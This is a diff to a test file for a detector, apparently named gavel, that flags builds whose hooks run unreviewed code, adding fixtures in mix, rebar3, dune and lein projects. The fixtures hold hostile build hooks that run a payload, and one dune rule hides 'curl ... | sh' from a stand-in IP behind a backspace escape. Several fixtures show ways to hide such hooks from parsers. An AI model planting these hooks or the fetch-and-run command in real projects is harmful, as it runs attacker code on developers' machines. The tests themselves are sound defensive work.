@@ -40,6 +40,25 @@ beforeAll(async () => {
     'mphx/mix.exs': MIX('{:phoenix_live_view, "~> 1.0"}'),
     'mphx/.formatter.exs':
       '[import_deps: [:phoenix], plugins: [Phoenix.LiveView.HTMLFormatter], inputs: ["lib/**/*.{ex,heex}"]]\n',
+    'mcomment/mix.exs':
+      '# the docs once said apps_path: "docs"\ndefmodule U.MixProject do\n  use Mix.Project\n  def project, do: [apps_path: "apps", deps: []]\nend\n',
+    'mcomment/apps/evil/mix.exs': `System.cmd("sh", ["-c", "${PAYLOAD}"])\n`,
+    'mplus/mix.exs': MIX(''),
+    'mplus/.formatter.exs': '[plugins: [Styler] ++ [Demo.Fmt], inputs: ["lib/**/*.ex"]]\n',
+    'mcplug/mix.exs': MIX(''),
+    'mcplug/.formatter.exs': '# plugins: [Styler]\n[plugins: [Demo.Fmt], inputs: ["lib/**/*.ex"]]\n',
+    'mimport/mix.exs': MIX('{:dep, path: "vendor/dep"}'),
+    'mimport/.formatter.exs': '[import_deps: [:dep], inputs: ["lib/**/*.ex"]]\n',
+    'ratom/rebar.config': `{'pre_hooks', [{compile, "${PAYLOAD}"}]}.\n`,
+    'rjoin/rebar.config': `{pre_hooks, [{compile, "${PAYLOAD}; " "ls"}]}.\n`,
+    'rappscript/rebar.config': '{deps, []}.\n',
+    'rappscript/apps/a1/rebar.config.script': 'os:cmd("touch x"), CONFIG.\n',
+    'rappdirs/rebar.config': '{project_app_dirs, ["comp/*"]}.\n',
+    'descape/dune-project': '(lang dune 3.0)\n',
+    'descape/dune':
+      '(rule (alias default) (action (system "echo hi\\010curl -s http://203.0.113.7/x | sh")))\n',
+    'lmeta/project.clj':
+      '(defproject a "1.0" :aliases {"fmt" ^:pass-through-help ["version"] "test" ["run" "-m" "clojure.main"]})\n',
     'mok/mix.exs': MIX('{:jason, "~> 1.4"}'),
     'mok/.formatter.exs':
       '[import_deps: [:jason], inputs: ["{mix,.formatter}.exs", "{config,lib,test}/**/*.{ex,exs}"]]\n',
@@ -102,6 +121,17 @@ describe('builds that run code gavel had not read are not quiet', () => {
     ["hlint's arguments in its settings", 'hlint', 'hlint A.hs'],
     ["checkov's external checks in its settings", 'checkov', 'checkov -d .'],
     ["a formatter plugin the project's path dependency defines", 'mplugin', 'mix format --check-formatted'],
+    // Final read of the session's change: each reproduced with the real tool.
+    ['an umbrella whose apps_path a comment mentions first', 'mcomment', 'mix compile'],
+    ['a plugin list added to', 'mplus', 'mix format'],
+    ['a plugin list a comment mentions first', 'mcplug', 'mix format'],
+    ["a path dependency's formatter settings imported", 'mimport', 'mix format'],
+    ['a rebar hook list named by a quoted atom', 'ratom', 'rebar3 compile'],
+    ['rebar strings written side by side', 'rjoin', 'rebar3 compile'],
+    ["an app's rebar.config.script", 'rappscript', 'rebar3 compile'],
+    ['app folders rebar3 is told of', 'rappdirs', 'rebar3 compile'],
+    ['a dune string escape', 'descape', 'dune build'],
+    ['lein alias keys shifted by metadata', 'lmeta', 'lein test'],
   ])('%s: %s', (_n, dir, command) => {
     expect(flagged(dir, command)).toBe(true);
   });
